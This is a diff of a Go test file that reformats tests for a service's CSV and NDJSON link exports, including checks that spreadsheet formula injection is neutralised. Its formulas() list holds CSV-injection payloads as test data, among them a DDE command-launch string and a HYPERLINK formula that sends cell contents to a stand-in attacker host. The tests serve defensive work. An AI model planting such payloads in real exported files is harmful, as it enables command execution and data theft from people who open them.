@@ -49,8 +49,8 @@ func TestExportLinks(t *testing.T) {
 	}
 	a := c.get(list.link("CSV"))
 	if a.status != http.StatusOK || a.header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
-		!regexp.MustCompile(`^attachment; filename="keyhole-links-\d{8}T\d{6}Z\.csv"$`).MatchString(a.header.Get("Content-Disposition")) ||
-		a.header.Get("Cache-Control") != "no-store" {
+		!regexp.MustCompile(`^attachment; filename="keyhole-links-\d{8}T\d{6}Z\.csv"$`).MatchString(
+			a.header.Get("Content-Disposition")) || a.header.Get("Cache-Control") != "no-store" {
 		t.Fatalf("%d %v", a.status, a.header)
 	}
 	records := parseCSV(t, a.text)
@@ -72,10 +72,12 @@ func TestExportLinks(t *testing.T) {
 	}
 	a = c.get(list.link("NDJSON"))
 	var got api.Link
-	if err := json.Unmarshal([]byte(a.text), &got); err != nil || a.header.Get("Content-Type") != "application/x-ndjson" {
+	err := json.Unmarshal([]byte(a.text), &got)
+	if err != nil || a.header.Get("Content-Type") != "application/x-ndjson" {
 		t.Fatalf("%v: %v %s", err, a.header, a.text)
 	}
-	page, err := b.service.Show(t.Context(), &gateway.Actor{Can: []gateway.Action{"read"}, Objects: []gateway.Pattern{"*"}}, link.ID)
+	reader := gateway.Actor{Can: []gateway.Action{gateway.ActionRead}, Objects: []gateway.Pattern{"*"}}
+	page, err := b.service.Show(t.Context(), &reader, link.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -164,7 +166,8 @@ func TestExportLimit(t *testing.T) {
 func TestExportStops(t *testing.T) {
 	t.Parallel()
 	records := parseCSV(t, sendRows(t, formatCSV, 2000, 2))
-	if got := records[len(records)-1][0]; len(records) != 1002 || got != "# incomplete after 1000 rows: Redis is unavailable" {
+	const want = "# incomplete after 1000 rows: Redis is unavailable"
+	if got := records[len(records)-1][0]; len(records) != 1002 || got != want {
 		t.Errorf("%d records, the last is %q", len(records), got)
 	}
 	text := sendRows(t, formatNDJSON, 2000, 1)
@@ -184,10 +187,11 @@ func TestExportStops(t *testing.T) {
 // formulas are texts that a spreadsheet would calculate.
 func formulas() []string {
 	return []string{
-		"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "  +1", "\u00a0=1", "\u3000=1",
-		"\ufeff=1", "\u200b=1", "\x00=1", `"=1`, `'=1`, `""=1`, `" =1`, "\u201c=1", "\u00ab=1", "`=1", "\uff1d1+1", "\uff0b1",
-		"\uff0d1", "\uff201", "\u22121", "\ufb291", "=HYPERLINK(\"https://evil.example/?\"&A1)", "=1,2", "=1\n=2", "a;=1", "a; =1",
-		`a;"=1`, "a\t=1", "a\n=1", "a\r\n@x", "=", "-", "+49 30 1234", "-report.pdf", "\tplain", "\rplain", "\nplain",
+		"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "  +1",
+		"\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", `"=1`, `'=1`, `""=1`, `" =1`, "\u201c=1", "\u00ab=1",
+		"`=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u22121", "\ufb291",
+		"=HYPERLINK(\"https://evil.example/?\"&A1)", "=1,2", "=1\n=2", "a;=1", "a; =1", `a;"=1`,
+		"a\t=1", "a\n=1", "a\r\n@x", "=", "-", "+49 30 1234", "-report.pdf", "\tplain", "\rplain", "\nplain",
 	}
 }
 
@@ -214,7 +218,8 @@ func TestCSVFormulas(t *testing.T) {
 		}
 		event := api.Event{Key: text, Actor: text, Reason: text, Address: text}
 		for name, encode := range map[string]func() ([]byte, error){
-			"link": func() ([]byte, error) { return links.row(&link) }, "event": func() ([]byte, error) { return events.row(&event) },
+			"link":  func() ([]byte, error) { return links.row(&link) },
+			"event": func() ([]byte, error) { return events.row(&event) },
 		} {
 			line, err := encode()
 			if err != nil {
@@ -240,8 +245,8 @@ func TestCSVFormulas(t *testing.T) {
 func TestCSVHarmless(t *testing.T) {
 	t.Parallel()
 	for _, text := range []string{
-		"", "a", "a=b", "a+b", "a@b.example", "2026-11-25T08:00:00Z", "q3 - final.pdf", `"e"`, "it's", "a; b", "a=b; c=d", "日本語",
-		"#1", "a,b", "1-2",
+		"", "a", "a=b", "a+b", "a@b.example", "2026-11-25T08:00:00Z", "q3 - final.pdf", `"e"`, "it's", "a; b",
+		"a=b; c=d", "日本語", "#1", "a,b", "1-2",
 	} {
 		if got := safeCell(text); got != text {
 			t.Errorf("%q became %q", text, got)
